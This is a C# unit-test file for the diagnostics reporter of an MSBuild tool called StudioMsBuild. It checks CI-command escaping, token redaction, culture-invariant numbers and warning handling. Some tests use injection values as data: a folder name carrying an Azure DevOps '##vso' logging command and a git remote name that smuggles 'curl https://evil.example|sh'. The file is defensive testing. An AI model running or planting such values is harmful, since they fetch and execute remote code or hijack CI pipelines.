using System.Globalization;
using StudioMsBuild.Settings;

namespace StudioMsBuild.Tests.Reporting;

/// <summary>The one exit of text.</summary>
public class ReporterTests
{
    private const string Token = "isat_0123456789abcdefABCDEF";

    [Fact]
    public void A_folder_that_is_a_command_of_a_CI_system_leaves_neither_in_a_text_nor_in_the_entry_to_paste()
    {
        const string Folder = "##vso[task.setvariable variable=X]y";
        var log = new TestLog();

        log.Reporter.Report(Diagnostics.CommitLockFile("/r/studio.lock.json", "https://studio.example.com/user/ada/projects/iris-a1", $$"""{"subdir":"{{Folder}}"}""") with { Subject = new([Folder], IsAll: false) });

        log.Texts.ShouldAllBe(text => !text.Contains("##vso["));
        log.Last.ShouldContain(@"{""subdir"":""\u0023\u0023vso[task.setvariable variable=X]y""}");
        log.Last.ShouldContain("-p:StudioSubdir=ITS-FOLDER");
    }

    [Fact]
    public void A_remote_that_is_a_command_is_named_beside_the_command_to_run()
    {
        const string Remote = "origin;curl https://evil.example|sh;#";
        var log = new TestLog();

        log.Reporter.Report(Diagnostics.UnknownRemote(Remote, "DVC's config", ["origin"]).Diagnostic);

        log.Last.Split('\n').ShouldContain("    git remote add NAME URL");
        log.Last.Split('\n').ShouldContain($"    where NAME is \"{Remote}\"");
        log.Last.ShouldStartWith($"The remote \"{Remote}\" ");
    }

    [Fact]
    public void A_token_that_an_exception_quotes_is_blanked_also_where_it_is_only_traced()
    {
        var log = new TestLog(null, Token);
        var hex = BitConverter.ToString(System.Text.Encoding.ASCII.GetBytes(Token));

        log.Reporter.Trace(new IOException($"Received an invalid status line: 'HTP/1.1 token {Token}', chunk {hex}"));
        log.Reporter.Report(Diagnostics.Unexpected($"IOException {Token}").Diagnostic);

        log.Texts.ShouldNotBeEmpty();
        log.Texts.ShouldAllBe(text => !text.Contains(Token, StringComparison.OrdinalIgnoreCase) && !text.Contains(hex, StringComparison.OrdinalIgnoreCase));
    }

    [Fact]
    public void Numbers_are_the_same_in_every_culture()
    {
        var before = CultureInfo.CurrentCulture;
        var german = (CultureInfo)CultureInfo.InvariantCulture.Clone();
        german.NumberFormat.NumberDecimalSeparator = ",";
        CultureInfo.CurrentCulture = german;
        try
        {
            var log = new TestLog();
            log.Reporter.Report(Diagnostics.Retrying(ReportText.Line($"Studio is rate-limiting requests"), TimeSpan.FromSeconds(0.5), 1, 3));
            log.Last.ShouldBe("app: Studio is rate-limiting requests. Retrying in 0.5 s (1 of 3).");
        }
        finally
        {
            CultureInfo.CurrentCulture = before;
        }
    }

    [Theory]
    [InlineData(false, true)]
    [InlineData(true, false)]
    public void StudioContinueOnError_makes_a_warning_of_every_error_but_that_of_a_bad_property(bool isAlwaysError, bool isWarning)
    {
        var log = new TestLog(new() { ProjectFile = "/r/app.csproj", Values = new Dictionary<string, string>(StringComparer.Ordinal) { ["StudioContinueOnError"] = "true" } });

        log.Reporter.Report(Diagnostics.GitNotFound().Diagnostic with { IsAlwaysError = isAlwaysError });

        log.HasErrors.ShouldBe(!isWarning);
    }

    [Fact]
    public void Several_registrations_are_named_by_their_number_or_their_folders()
    {
        var log = new TestLog();
        var failure = Diagnostics.NotInLockFile("/r/studio.lock.json").Diagnostic;

        log.Reporter.Report(failure with { Subject = new(["a", "b c"], IsAll: true) });
        log.Last.ShouldStartWith("2 registrations: ");
        log.Last.ShouldContain("-p:StudioSubdir=ITS-FOLDER");
        log.Reporter.Report(failure with { Subject = new(["a", "b c"], IsAll: false) });
        log.Last.ShouldStartWith("2 registrations (a, \"b c\"): ");
        log.Reporter.Report(failure with { Subject = new(["a"], IsAll: true) });
        log.Last.ShouldStartWith("a: ");
        log.Last.ShouldContain("-p:StudioSubdir=a");
    }
}
